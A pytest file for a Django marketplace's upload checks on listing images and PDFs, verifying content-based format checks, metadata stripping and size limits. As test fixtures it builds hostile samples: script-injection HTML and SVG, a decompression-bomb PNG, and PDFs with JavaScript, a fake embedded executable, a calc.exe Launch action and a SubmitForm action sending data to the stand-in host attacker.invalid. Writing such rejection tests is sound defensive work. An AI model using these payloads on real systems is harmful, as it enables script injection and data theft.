"""Images and PDF files on listings: what is accepted, what is refused with which message, and what is stored."""

import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from listings.models import ListingAttachment, ListingImage
from listings.services import listings as services
from techmarket.accounts.choices import OrganisationKind
from tests.factories import OrganisationFactory, add_member, make_listing

from .conftest import MINIMAL_PDF, image_bytes, pdf_bytes

pytestmark = pytest.mark.django_db


@pytest.fixture
def university():
    return OrganisationFactory(kind=OrganisationKind.UNIVERSITY, name_zh="复旦大学")


@pytest.fixture
def member(university):
    return add_member(university)


@pytest.fixture
def listing(university):
    return make_listing(university)


def _files(root) -> list:
    return sorted(p.name for p in root.rglob("*") if p.is_file()) if root.exists() else []


def _add(member, listing, content: bytes, name: str = "photo.jpg"):
    return services.listing_image_add(actor=member, listing=listing, image=SimpleUploadedFile(name, content))


def _refused(member, listing, content: bytes, name: str, media_root) -> str:
    with pytest.raises(ValidationError) as caught:
        _add(member, listing, content, name)
    assert not ListingImage.objects.exists()
    assert _files(media_root) == []
    return " ".join(caught.value.messages)


def test_a_jpeg_is_cleaned_renamed_and_rendered_once(member, listing, media_root):
    exif = Image.Exif()
    exif[0x010F] = "Canon"  # camera maker
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}  # GPS in Shanghai
    row = _add(member, listing, image_bytes(size=(2400, 1800), exif=exif.tobytes()), "IMG_0001.html")
    assert row.image.name.endswith(".jpg") and "IMG_0001" not in row.image.name
    stored = Image.open(row.image.path)
    assert not stored.getexif() and "exif" not in stored.info
    assert (row.width, row.height) == (2400, 1800)
    assert row.renditions["thumb"]["width"] == 480 and row.renditions["thumb"]["height"] == 360
    assert (row.detail.width, row.detail.height) == (1200, 900)
    assert len(_files(media_root)) == 3  # the original and its two renditions


def test_orientation_is_applied_before_exif_is_dropped(member, listing):
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise when shown
    row = _add(member, listing, image_bytes(size=(800, 600), exif=exif.tobytes()))
    assert (row.width, row.height) == (600, 800)


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_png_and_webp_keep_their_format(member, listing, fmt):
    row = _add(member, listing, image_bytes(fmt, mode="RGB"), "drawing.bin")
    assert Image.open(row.image.path).format == fmt


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "photo.jpg", "不是 JPEG、PNG 或 WebP 图片"),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "logo.png",
            "不是 JPEG、PNG 或 WebP 图片",
        ),
        (image_bytes("GIF", mode="P"), "anim.jpg", "不接受 GIF 格式"),
        (image_bytes("BMP"), "scan.png", "不接受 BMP 格式"),
        (image_bytes()[:4000], "cut.jpg", "已损坏或不完整"),
        (b"", "empty.jpg", ""),
    ],
    ids=["html", "svg", "gif", "bmp", "truncated-jpeg", "empty"],
)
def test_bad_files_are_refused_by_content_and_nothing_is_written(member, listing, media_root, content, name, message):
    text = _refused(member, listing, content, name, media_root)
    assert message in text


def test_truncated_png_is_refused(member, listing, media_root):
    data = image_bytes("PNG", size=(1200, 900), mode="RGB")
    assert "已损坏或不完整" in _refused(member, listing, data[: len(data) // 2], "cut.png", media_root)


def test_decompression_bomb_is_refused_before_decoding(member, listing, media_root):
    # 30,000 × 30,000 one-bit pixels: about 100 kB of PNG that would decode to 900 million pixels.
    bomb = image_bytes("PNG", size=(30_000, 30_000), mode="1")
    assert len(bomb) < 1_000_000
    assert "像素过多" in _refused(member, listing, bomb, "bomb.png", media_root)


def test_image_over_the_pixel_limit_names_its_size(member, listing, media_root, settings):
    settings.LISTING_IMAGE_MAX_PIXELS = 1_000_000
    text = _refused(member, listing, image_bytes("PNG", size=(1500, 1000), mode="1"), "big.png", media_root)
    assert "1500 × 1000" in text and "上限为 1 百万像素" in text


def test_image_over_the_byte_limit_is_refused(member, listing, media_root, settings):
    settings.LISTING_IMAGE_MAX_BYTES = 10_000
    assert "上限为 9.8" in _refused(member, listing, image_bytes(size=(1600, 1200)), "big.jpg", media_root)


def test_at_most_eight_images(member, listing, media_root):
    for _ in range(8):
        _add(member, listing, image_bytes(size=(64, 48)))
    with pytest.raises(ValidationError, match="最多 8 张图片"):
        _add(member, listing, image_bytes(size=(64, 48)))
    assert listing.images.count() == 8
    assert len(_files(media_root)) == 8 * 3


def test_pdf_attachments(member, listing, media_root):
    row = services.listing_attachment_add(
        actor=member, listing=listing, file=SimpleUploadedFile("brochure.pdf", MINIMAL_PDF), title="技术简介"
    )
    assert row.file.name.endswith(".pdf") and row.size == len(MINIMAL_PDF)
    for content, message in [
        (b"<html><body>not a pdf</body></html>", "不是 PDF 文档"),
        (MINIMAL_PDF[:60], "不完整"),
    ]:
        with pytest.raises(ValidationError, match=message):
            services.listing_attachment_add(
                actor=member, listing=listing, file=SimpleUploadedFile("x.pdf", content), title="坏文件"
            )
    assert ListingAttachment.objects.count() == 1
    assert len(_files(media_root)) == 1


# Hostile PDFs ------------------------------------------------------------------------------------------------------


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _link_annotation(action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(250), FloatObject(100)]),
            NameObject("/A"): action,
        }
    )


def _with_js(writer):
    writer.add_open_action(JavaScript("app.alert('pwned');"))  # the catalog's /Names /JavaScript tree


def _with_attachment(writer):
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")


def _with_launch(writer):
    writer.add_annotation(0, _link_annotation(_action("/Launch", F=TextStringObject("C:\\Windows\\calc.exe"))))


def _with_open_action_js(writer):
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))


def _with_page_aa_js(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("this.print()"))}
    )


def _with_submit_form(writer):
    writer.add_annotation(0, _link_annotation(_action("/SubmitForm", F=TextStringObject("http://attacker.invalid/"))))


def _with_import_data(writer):
    writer.add_annotation(0, _link_annotation(_action("/ImportData", F=TextStringObject("data.fdf"))))


def _encrypted(writer):
    writer.encrypt(user_password="", owner_password="secret", algorithm="RC4-128")


def _attach(member, listing, content: bytes):
    return services.listing_attachment_add(
        actor=member, listing=listing, file=SimpleUploadedFile("brochure.pdf", content), title="技术简介"
    )


def test_a_plain_pdf_made_by_a_pdf_library_is_accepted(member, listing):
    content = pdf_bytes()
    assert _attach(member, listing, content).size == len(content)


@pytest.mark.parametrize(
    ("content", "code", "message"),
    [
        (pdf_bytes(_with_js), "pdf_javascript", "contains JavaScript"),
        (pdf_bytes(_with_open_action_js), "pdf_javascript", "contains JavaScript"),
        (pdf_bytes(_with_page_aa_js), "pdf_javascript", "contains JavaScript"),
        (pdf_bytes(_with_attachment), "pdf_embedded_file", "carries embedded files"),
        (pdf_bytes(_with_launch), "pdf_launch", "starts a program"),
        (pdf_bytes(_with_submit_form), "pdf_form_action", "sends or imports data"),
        (pdf_bytes(_with_import_data), "pdf_form_action", "sends or imports data"),
        (pdf_bytes(_encrypted), "pdf_encrypted", "encrypted or protected by a password"),
        (
            b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf_bytes(),
            "pdf_prefixed",
            "something else before its PDF header",
        ),
        (b" " + pdf_bytes(), "pdf_prefixed", "something else before its PDF header"),
        (b"%PDF-1.7\n" + b"\x00garbage\xff" * 50 + b"\n%%EOF\n", "pdf_unreadable", "cannot be read"),
    ],
    ids=[
        "javascript",
        "open-action-javascript",
        "page-action-javascript",
        "embedded-file",
        "launch",
        "submit-form",
        "import-data",
        "encrypted",
        "html-before-header",
        "space-before-header",
        "unparseable",
    ],
)
def test_hostile_pdfs_are_refused_with_the_reason_and_nothing_is_stored(
    member, listing, media_root, content, code, message
):
    with translation.override("en"):
        with pytest.raises(ValidationError) as caught:
            _attach(member, listing, content)
        assert [error.code for error in caught.value.error_dict["file"]] == [code]
        assert message in " ".join(caught.value.messages)
    assert not ListingAttachment.objects.exists()
    assert _files(media_root) == []


def test_every_reason_is_named(member, listing):
    def everything(writer):
        _with_js(writer)
        _with_attachment(writer)
        _with_launch(writer)

    with pytest.raises(ValidationError) as caught:
        _attach(member, listing, pdf_bytes(everything))
    codes = [error.code for error in caught.value.error_dict["file"]]
    assert codes == ["pdf_javascript", "pdf_embedded_file", "pdf_launch"]


def test_a_script_pdf_is_refused_on_the_upload_page_and_through_the_api(client, member, listing, media_root):
    client.force_login(member)
    with translation.override("en"):
        url = reverse("listings:listing_files", args=[listing.pk])
    response = client.post(
        url, {"kind": "file", "file-file": SimpleUploadedFile("x.pdf", pdf_bytes(_with_js)), "file-title": "简介"}
    )
    assert response.status_code == 400
    assert "contains JavaScript" in response.content.decode()
    response = client.post(
        f"/api/v1/listings/{listing.pk}/attachments/",
        {"file": SimpleUploadedFile("x.pdf", pdf_bytes(_with_attachment)), "title": "简介"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 400
    assert "embedded files" in response.json()["file"][0]
    assert not ListingAttachment.objects.exists() and _files(media_root) == []


# Image metadata ----------------------------------------------------------------------------------------------------

SECRET = b"SECRET-METADATA-7f3a"


def _gps_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}
    exif[0x010E] = SECRET.decode()  # image description
    return exif.tobytes()


def _srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _stored_images(row) -> list:
    return [Path(default_storage.path(name)) for name in row.stored_names()]


def _assert_only_pixels(path: Path) -> None:
    data = path.read_bytes()
    assert SECRET not in data, path.name
    image = Image.open(path)
    assert not image.getexif(), path.name
    for key in ("exif", "xmp", "XML:com.adobe.xmp", "comment", "icc_profile", "Comment", "Author", "Description"):
        assert key not in image.info, (path.name, key)
    assert not getattr(image, "text", {}), path.name  # PNG tEXt, iTXt and zTXt chunks
    if image.format == "JPEG":
        # No comment (COM), EXIF or XMP (APP1) or ICC profile (APP2) segment among the headers.
        assert not {0xFE, 0xE1, 0xE2} & set(_jpeg_markers(data)), path.name


def _jpeg_markers(data: bytes) -> list[int]:
    """The JPEG's header segments, up to the start of the scan."""
    markers, at = [], 2
    while at + 4 <= len(data) and data[at] == 0xFF and data[at + 1] != 0xDA:
        markers.append(data[at + 1])
        at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
    return markers


def test_a_jpeg_keeps_no_comment_exif_or_profile_original_and_renditions(member, listing):
    content = image_bytes(
        size=(1600, 1200), comment=SECRET, exif=_gps_exif(), icc_profile=_srgb_profile(), xmp=b"<x>" + SECRET + b"</x>"
    )
    uploaded = Image.open(io.BytesIO(content))
    assert uploaded.info["comment"] == SECRET and uploaded.getexif() and "icc_profile" in uploaded.info

    row = _add(member, listing, content)

    paths = _stored_images(row)
    assert len(paths) == 3
    for path in paths:
        _assert_only_pixels(path)
    assert Image.open(paths[0]).convert("RGB").getpixel((800, 600)) == pytest.approx((70, 130, 180), abs=3)


def test_a_png_keeps_no_text_chunks_exif_or_profile_original_and_renditions(member, listing):
    info = PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_itxt("Description", SECRET.decode(), lang="zh", tkey="说明")
    info.add_text("Author", SECRET.decode(), zip=True)  # a zTXt chunk
    content = image_bytes("PNG", size=(900, 600), pnginfo=info, exif=_gps_exif(), icc_profile=_srgb_profile())
    assert SECRET.decode() in Image.open(io.BytesIO(content)).text["Comment"]

    row = _add(member, listing, content, "drawing.png")

    paths = _stored_images(row)
    assert Image.open(paths[0]).format == "PNG"
    for path in paths:
        _assert_only_pixels(path)


def test_a_png_with_a_transparent_colour_keeps_its_transparency(member, listing):
    content = image_bytes("PNG", size=(64, 48), transparency=(70, 130, 180))  # the whole picture is that colour
    row = _add(member, listing, content, "clear.png")
    stored = Image.open(row.image.path)
    assert stored.mode == "RGBA" and stored.getpixel((10, 10))[3] == 0
    _assert_only_pixels(Path(row.image.path))


# Through the page ------------------------------------------------------------------------------------------------


def test_the_upload_page_shows_the_message_with_a_400(client, member, listing, media_root):
    client.force_login(member)
    url = reverse("listings:listing_files", args=[listing.pk])
    response = client.post(
        url, {"kind": "image", "image-image": SimpleUploadedFile("x.jpg", b"<html></html>"), "image-caption": ""}
    )
    assert response.status_code == 400
    assert "不是 JPEG、PNG 或 WebP 图片" in response.content.decode()
    truncated = SimpleUploadedFile("y.jpg", image_bytes()[:3000])
    response = client.post(url, {"kind": "image", "image-image": truncated, "image-caption": ""})
    assert response.status_code == 400
    assert not ListingImage.objects.exists() and _files(media_root) == []
    response = client.post(
        url, {"kind": "image", "image-image": SimpleUploadedFile("ok.png", image_bytes("PNG")), "image-caption": "样机"}
    )
    assert response.status_code == 302
    page = client.get(listing.get_absolute_url()).content.decode()
    image = ListingImage.objects.get()
    assert f'src="{image.detail.url}" width="{image.detail.width}" height="{image.detail.height}"' in page


def test_a_broken_file_already_stored_does_not_break_the_page(client, member, listing):
    row = _add(member, listing, image_bytes())
    with open(row.image.path, "wb") as broken:
        broken.write(b"garbage")
    client.force_login(member)
    assert client.get(listing.get_absolute_url()).status_code == 200


def test_uploaded_image_bytes_are_not_trusted_by_name(member, listing):
    png = io.BytesIO(image_bytes("PNG"))
    row = _add(member, listing, png.getvalue(), "photo.jpeg")
    assert row.image.name.endswith(".png")
